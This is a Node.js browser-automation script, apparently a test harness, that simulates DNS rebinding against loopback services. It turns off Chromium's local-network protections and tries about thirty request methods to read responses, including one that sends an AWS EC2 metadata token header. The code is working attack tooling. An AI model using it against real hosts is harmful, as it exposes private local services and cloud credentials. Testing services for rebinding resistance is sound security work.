// A page that wants what is at a loopback port: `node attacker.mjs`, with what to do as one JSON object on stdin:
// {browser, rebound: [host], targets: [{name, home, urls, headers, form, wanted?}]}. A target's `home` is answered here with an empty document, as
// the attacker's own server did before its name was bound anew; every other request goes where its name leads. What came of each
// way of asking for each of `urls`, all that the page could get hold of, is one JSON object on stdout. Where the ways `wanted` are
// named, those are gone and no others, as long as they take.
import { readFileSync } from 'node:fs';
import { launch } from './chromium.mjs';

const { browser: executablePath, rebound, targets } = JSON.parse(readFileSync(0, 'utf8'));
const PATIENCE = 2_500;
const LONG = 60_000;

// In the page: every way in which it can ask for `url`, each with all that it could read of the answer.
async function attack({ url, headers, form, wanted, patience }) {
  const within = (promise) => Promise.race([promise, new Promise((end) => setTimeout(() => end('nothing came'), patience))]);
  const element = (name, attributes, read = () => 'loaded') =>
    new Promise((end) => {
      const one = Object.assign(document.createElement(name), attributes);
      one.onload = () => {
        try {
          end(`${read(one)}`);
        } catch (refused) {
          end(`${refused}`);
        }
      };
      one.onerror = () => end('refused');
      document.body.append(one);
    });
  const asked = async (options, to = url) => {
    const answer = await fetch(to, options);
    return `${answer.type} ${answer.status} ${[...answer.headers].join(' ')} ${await answer.text()}`;
  };
  const xhr = (method, fields) =>
    new Promise((end) => {
      const request = new XMLHttpRequest();
      request.open(method, url);
      for (const [name, value] of Object.entries(fields)) request.setRequestHeader(name, value);
      request.onloadend = () => end(`${request.status} ${request.getAllResponseHeaders()} ${request.responseText}`);
      request.send();
    });
  const framed = (one) => one.contentDocument?.documentElement?.outerHTML ?? 'opaque';
  const posted = () =>
    new Promise((end) => {
      const frame = Object.assign(document.createElement('iframe'), { name: `posted${Math.random()}` });
      document.body.append(frame);
      const sent = Object.assign(document.createElement('form'), { method: 'post', action: url, target: frame.name });
      for (const [name, value] of Object.entries(form)) sent.append(Object.assign(document.createElement('input'), { name, value }));
      document.body.append(sent);
      frame.onload = () => {
        try {
          if (frame.contentWindow.location.href !== 'about:blank') end(framed(frame));
        } catch (refused) {
          end(`${refused}`);
        }
      };
      sent.submit();
    });
  const events = () =>
    new Promise((end) => {
      const stream = new EventSource(url);
      stream.onmessage = (message) => end(message.data);
      stream.onerror = () => end('refused');
    });
  const socket = () =>
    new Promise((end) => {
      const line = new WebSocket(url.replace(/^http/, 'ws'));
      line.onopen = () => end('opened');
      line.onmessage = (message) => end(message.data);
      line.onerror = () => end('refused');
    });
  const body = new URLSearchParams(form);
  const ways = {
    fetch: () => asked({}),
    'fetch no-cors': () => asked({ mode: 'no-cors', credentials: 'include' }),
    'fetch same-origin': () => asked({ mode: 'same-origin' }),
    'fetch with headers': () => asked({ headers }),
    'fetch with another referrer policy': () => asked({ headers, referrerPolicy: 'no-referrer', cache: 'reload', keepalive: true }),
    'fetch HEAD': () => asked({ method: 'HEAD', headers }),
    'fetch OPTIONS': () => asked({ method: 'OPTIONS', headers }),
    'fetch PUT': () => asked({ method: 'PUT', headers: { ...headers, 'X-aws-ec2-metadata-token-ttl-seconds': '60' } }),
    'fetch POST form': () => asked({ method: 'POST', body }),
    'fetch POST form no-cors': () => asked({ method: 'POST', body, mode: 'no-cors' }),
    'fetch POST text': () => asked({ method: 'POST', body: body.toString(), headers: { 'Content-Type': 'text/plain' } }),
    XMLHttpRequest: () => xhr('GET', {}),
    'XMLHttpRequest with headers': () => xhr('GET', headers),
    'form GET': () => element('iframe', { src: `${url}?${body}` }, framed),
    'form POST': posted,
    iframe: () => element('iframe', { src: url }, framed),
    object: () => element('object', { data: url }, framed),
    embed: () => element('embed', { src: url }),
    script: () => element('script', { src: url }, () => `${window.taken ?? 'ran'}`),
    'module script': () => import(url).then((module) => JSON.stringify(module)),
    style: () => element('link', { rel: 'stylesheet', href: url }, (one) => [...one.sheet.cssRules].map((rule) => rule.cssText).join()),
    'style import': () =>
      element('style', { textContent: `@import url("${url}");` }, (one) => one.sheet.cssRules[0].styleSheet?.cssRules.length ?? 'refused'),
    image: () => element('img', { src: url }, (one) => `${one.width} wide`),
    preload: () => element('link', { rel: 'preload', as: 'fetch', href: url }),
    prefetch: () => element('link', { rel: 'prefetch', href: url }),
    video: () =>
      new Promise((end) => {
        const one = Object.assign(document.createElement('video'), { src: url, preload: 'auto', onerror: () => end('refused') });
        document.body.append(one);
      }),
    EventSource: events,
    WebSocket: socket,
    beacon: async () => `${navigator.sendBeacon(url, body)}`,
    worker: () =>
      new Promise((end) => {
        const worker = new Worker(url);
        worker.onmessage = (message) => end(`${message.data}`);
        worker.onerror = () => end('refused');
      }),
    'service worker': async () => (navigator.serviceWorker ? `${await navigator.serviceWorker.register(url)}` : 'not on an insecure origin'),
    'a window': async () => {
      const opened = open(url);
      await new Promise((end) => setTimeout(end, 700));
      const read = opened?.document?.documentElement?.outerHTML ?? 'not opened';
      opened?.close();
      return read;
    },
  };
  const seen = {};
  const all = Object.entries(ways).filter(([name]) => !wanted || wanted.includes(name));
  // More at once, of one address, is more than Chromium's network service bears.
  for (let first = 0; first < all.length; first += 8) {
    await Promise.all(
      all.slice(first, first + 8).map(async ([name, way]) => {
        seen[name] = await within(Promise.resolve().then(way).catch((refused) => `${refused}`));
      }),
    );
  }
  return seen;
}

const args = [];
if (rebound.length) args.push(`--host-resolver-rules=${rebound.map((host) => `MAP ${host} 127.0.0.1`).join(', ')}`);
// As permissive as a browser may be: no popup blocker, and no wall of its own between a public page and a loopback address.
args.push('--disable-popup-blocking', '--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights,HttpsUpgrades,HttpsFirstBalancedModeAutoEnable');
const browser = await launch(executablePath, args);
try {
  const seen = {};
  for (const { name, home, urls, headers, form, wanted } of targets) {
    const page = await browser.newPage();
    page.setDefaultTimeout(LONG);
    const empty = { status: 200, contentType: 'text/html', body: '<!doctype html><title>attack</title><body></body>' };
    page.on('request', (request) => request.respond(empty));
    await page.setRequestInterception(true);
    await page.goto(home, { waitUntil: 'load' });
    // From here on the network is the browser's own.
    page.removeAllListeners('request');
    await page.setRequestInterception(false);
    seen[name] = {};
    for (const url of urls) {
      seen[name][url] = await page.evaluate(attack, { url, headers, form, wanted, patience: wanted ? LONG : PATIENCE });
      // And by going there.
      const there = await browser.newPage();
      const answer = await there.goto(url, { waitUntil: 'load' }).catch((refused) => `${refused}`);
      seen[name][url].navigation = typeof answer === 'string' ? answer : `${answer.status()} ${await there.content()}`;
      await there.close();
    }
    await page.close();
  }
  console.log(JSON.stringify(seen));
} finally {
  await browser.close();
}
